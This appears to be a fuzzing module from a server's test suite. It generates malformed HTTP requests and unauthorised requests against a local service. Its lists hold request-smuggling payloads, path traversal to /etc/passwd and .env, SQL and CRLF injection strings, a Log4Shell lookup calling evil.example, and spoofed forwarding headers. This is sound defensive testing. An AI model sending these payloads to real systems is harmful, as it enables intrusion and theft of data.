// Requests that should not be: malformed HTTP, and well-formed requests for what is not theirs.
import { spoil } from "./mutation.mjs";

const post = (head, body = "") => `POST /webhooks/hook HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n${head}\r\n${body}`;
const get = (target, head = "") => `GET ${target} HTTP/1.1\r\nHost: localhost\r\n${head}\r\n`;

/** Whose end, length, host or line can be read in two ways, or not at all. */
const malformed = [
  post("Content-Length: 2\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n{}"), post("Transfer-Encoding: chunked\r\nContent-Length: 40\r\n", "0\r\n\r\nGET /readyz HTTP/1.1\r\nHost: a\r\n\r\n"),
  post("Transfer-Encoding: xchunked\r\n", "2\r\n{}\r\n0\r\n\r\n"), post("Transfer-Encoding: chunked, identity\r\n", "2\r\n{}\r\n0\r\n\r\n"), post("Transfer-Encoding: gzip, chunked\r\n", "0\r\n\r\n"),
  post("Transfer-Encoding:\tchunked\r\n", "2\r\n{}\r\n0\r\n\r\n"), post("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n"), post("Transfer-Encoding : chunked\r\n", "0\r\n\r\n"),
  post("Content-Length: 2\r\nContent-Length: 3\r\n", "{}x"), post("Content-Length: 2, 2\r\n", "{}"), post("Content-Length: +2\r\n", "{}"), post("Content-Length: -2\r\n", "{}"), post("Content-Length: 0x2\r\n", "{}"),
  post("Content-Length: 99999999999999999999\r\n", "{}"), post("Content-Length: 2 \r\n 4\r\n", "{}"), post("Content-Length: 1000000000\r\n", "{}"), post("", "{}"), post("Expect: 100-continue\r\nContent-Length: 2\r\n", "{}"),
  post("Transfer-Encoding: chunked\r\n", "-2\r\n{}\r\n0\r\n\r\n"), post("Transfer-Encoding: chunked\r\n", "ffffffffffffffff\r\n{}\r\n0\r\n\r\n"), post("Transfer-Encoding: chunked\r\n", "2\n{}\n0\n\n"),
  post("Transfer-Encoding: chunked\r\n", "2;a=b\r\n{}\r\n0\r\nAuthorization: Bearer x\r\n\r\n"), post("Transfer-Encoding: chunked\r\n", "02 \r\n{}\r\n0\r\n\r\n"), post("Transfer-Encoding: chunked\r\n", `2;${"x".repeat(70_000)}\r\n{}\r\n0\r\n\r\n`),
  post("X-Folded: a\r\n b\r\nContent-Length: 2\r\n", "{}"), post("X-Nul: a\0b\r\nContent-Length: 2\r\n", "{}"), post("X Bad: a\r\nContent-Length: 2\r\n", "{}"), post(": empty\r\n"), post(`X-Long: ${"a".repeat(70_000)}\r\n`), post("a: b\r\n".repeat(500)),
  "GET / HTTP/1.1\r\n\r\n", "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", "GET / HTTP/1.1\r\nHost: a b\r\n\r\n", "GET / HTTP/1.1\r\nHost: a/../b\r\n\r\n", "GET http://evil.example/ HTTP/1.1\r\nHost: localhost\r\n\r\n",
  "GET / HTTP/1.1\nHost: localhost\n\n", "GET / HTTP/2.0\r\nHost: localhost\r\n\r\n", "GET / HTTP/1.1.1\r\nHost: localhost\r\n\r\n", "GET /\r\n", "GET  /  HTTP/1.1\r\nHost: localhost\r\n\r\n", "get / HTTP/1.1\r\nHost: localhost\r\n\r\n",
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "CONNECT localhost:22 HTTP/1.1\r\nHost: localhost\r\n\r\n", "TRACE / HTTP/1.1\r\nHost: localhost\r\n\r\n", "OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n",
  "\r\n\r\n\r\nGET / HTTP/1.1\r\nHost: localhost\r\n\r\n", "\0".repeat(200), "GET / HTTP/1.1\rHost: localhost\r\r", `GET /${"a".repeat(20_000)} HTTP/1.1\r\nHost: localhost\r\n\r\n`, "USER anonymous\r\nPASS x\r\n", "EHLO evil.example\r\nMAIL FROM:<a@b>\r\n",
  get("/", "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"), get("/v1/widget/ws", "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: short\r\n"),
  get("/v1/widget/ws", "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 8\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"), get("/", "Range: bytes=0-,0-,0-,0-\r\n"), get("/", "Connection: close, close\r\nConnection: keep-alive\r\n"),
];

const strange_targets = [
  "/../../../../etc/passwd", "/..%2f..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/....//....//etc/passwd", "/console/..%5c..%5cwindows", "/widget.js%00.html", "/%", "/%zz", "/%c0%ae%c0%ae/", "/\\..\\..", "//evil.example/", "/.git/config", "/.env",
  "/webhooks/", "/webhooks/nobody", "/webhooks/hook/..", "/webhooks/%68%6f%6f%6b", "/webhooks/hook?x=%0d%0aSet-Cookie:a", "/api/v1/queue", "/api/v1/conversations/1", "/api/v1/conversations/-1", "/api/v1/conversations/99999999999999999999", "/api/v1/conversations/1%20OR%201=1",
  "/api/v1/search?q=%27%20OR%201%3D1--", "/api/v1/search?q=%22%2a%20NEAR", "/api/v1/users", "/api/v1/users/..%2fadmin", "/api/v1/files/../../x", "/api/v1/files/%2e%2e", "/api/v1/audit", "/api/v1/events", "/api/v1/knowledge/versions/../../x", "/v1/widget/poll?after=-1&wait=9999999",
  "/v1/widget/poll?after=NaN", "/v1/widget/events?token=x", "/v1/widget/files/..%2f..%2fs.db", "/metrics", "/admin", "/phpmyadmin/", "/wp-login.php", "/cgi-bin/;ls", "/?q=${jndi:ldap://evil.example/a}", "/?__proto__[x]=1", "/?a[]=1&a[]=2", `/?${"a=b&".repeat(1500)}`,
];
const strange_heads = [
  "Authorization: Bearer x\r\n", "Authorization: Bearer \r\n", `Authorization: Bearer ${"A".repeat(6000)}\r\n`, "Authorization: Basic YWRtaW46YWRtaW4=\r\n", "Cookie: __Host-session=x\r\n", "Cookie: session=' OR 1=1\r\n", `Cookie: ${"a=b; ".repeat(900)}\r\n`,
  "Cookie: ;;;=;=\r\n", "X-Forwarded-For: 127.0.0.1\r\n", "X-Forwarded-For: 1.1.1.1, ::1, evil\r\n", "Forwarded: for=127.0.0.1;host=evil\r\n", "X-HTTP-Method-Override: DELETE\r\n", "X-Original-URL: /api/v1/users\r\n", "Origin: null\r\n", "Origin: https://evil.example\r\n",
  "Sec-Fetch-Site: cross-site\r\n", "Accept: */*;q=nan\r\n", "Accept-Language: ../../x\r\n", "If-None-Match: *\r\n", "If-Modified-Since: never\r\n", "Last-Event-ID: -5\r\n", "Content-Encoding: gzip\r\n", "Transfer-Encoding: \r\n", "Referer: javascript:alert(1)\r\n",
];
const methods = ["GET", "GET", "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];

const closed = (request) => Buffer.from(request, "latin1");

/** A request of these, every second one spoilt besides. */
export function malformed_request(chance) {
  const bytes = closed(chance.one_of(malformed));
  return chance.below(2) === 0 ? bytes : spoil(bytes.subarray(0, 4000), chance);
}

/** A well-formed request for something that is not there or not the caller's. */
export function foreign_request(chance) {
  const method = chance.one_of(methods);
  const body = method === "GET" || method === "HEAD" ? "" : chance.one_of(["", "{}", "[]", "null", '{"text":"x"}', '{"name":"admin","password":"admin","role":"admin"}', "a=b", "\0\0"]);
  const length = body === "" && chance.below(2) === 0 ? "" : `Content-Type: application/json\r\nContent-Length: ${body.length}\r\n`;
  return closed(`${method} ${chance.one_of(strange_targets)} HTTP/1.1\r\nHost: localhost\r\n${chance.one_of(strange_heads)}${length}Connection: close\r\n\r\n${body}`);
}
